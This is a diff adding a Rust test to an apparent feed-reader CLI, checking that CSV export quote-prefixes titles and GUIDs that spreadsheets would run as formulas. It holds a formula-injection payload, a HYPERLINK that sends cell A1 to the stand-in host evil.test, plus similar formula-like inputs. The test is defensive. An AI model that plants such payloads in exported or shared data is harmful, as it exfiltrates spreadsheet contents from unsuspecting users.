@@ -238,6 +238,67 @@ async fn csv_has_the_documented_header_and_flattened_cells() {
     assert_eq!(&vodafone[col("author_emails")], r#"["desk@wire.test"]"#);
 }
 
+/// A feed's text that a spreadsheet would run as a formula: opening
+/// `items.csv` in Excel or LibreOffice made this title a live link that
+/// sends the sheet's cell A1 to evil.test. The CSV cell now starts with
+/// `'`, so it is shown as text; a signed number stays a number, a
+/// normal title is untouched, and JSONL keeps the publisher's text.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote() {
+    const FORMULA: &str = r#"=HYPERLINK("https://evil.test/?x="&A1,"Open")"#;
+    let server = FeedServer::start().await;
+    server.set(
+        "/f.xml",
+        Reply::feed(rss(
+            "F",
+            &[
+                ("f1", &FORMULA.replace('&', "&amp;"), "https://f.test/1"),
+                ("f2", "-3.2% for oil", "https://f.test/2"),
+                ("f3", "-3.2", "https://f.test/3"),
+                ("@SUM(1+1)", "Oil steady", "https://f.test/4"),
+            ],
+        )),
+    );
+    let dir = TestDir::new();
+    dir.write_config(&feed_block("f", &server.url("/f.xml"), ""));
+    let (code, out, err) = cli(&dir, &["poll"]).await;
+    assert_eq!(code, 0, "{out}{err}");
+
+    let (code, out, err) = cli(&dir, &["export", "--format", "csv"]).await;
+    assert_eq!(code, 0, "{err}");
+    let mut reader = csv::Reader::from_reader(out.as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let cells: Vec<(String, String)> = reader
+        .records()
+        .map(Result::unwrap)
+        .map(|r| (r[col("title")].to_string(), r[col("guid")].to_string()))
+        .collect();
+    let title_of = |guid: &str| {
+        cells
+            .iter()
+            .find(|(_, g)| g.trim_start_matches('\'') == guid)
+            .unwrap_or_else(|| panic!("no record with guid {guid}: {cells:?}"))
+            .0
+            .as_str()
+    };
+    assert_eq!(title_of("f1"), format!("'{FORMULA}"));
+    // Not a number: Excel reads it as the formula `=-3.2% for oil`.
+    assert_eq!(title_of("f2"), "'-3.2% for oil");
+    assert_eq!(title_of("f3"), "-3.2", "a signed number is left as it is");
+    assert_eq!(title_of("@SUM(1+1)"), "Oil steady");
+    assert!(
+        cells.iter().any(|(_, g)| g == "'@SUM(1+1)"),
+        "the guid is guarded too: {cells:?}"
+    );
+
+    let (code, out, err) = cli(&dir, &["export"]).await;
+    assert_eq!(code, 0, "{err}");
+    let all = lines(&out);
+    assert_eq!(titled(&all, "=HYPERLINK")["title"], FORMULA, "JSONL is raw");
+    assert_eq!(titled(&all, "Oil steady")["guid"], "@SUM(1+1)");
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn since_and_view_filter_and_bad_arguments_say_which() {
     let (server, dir) = setup("").await;
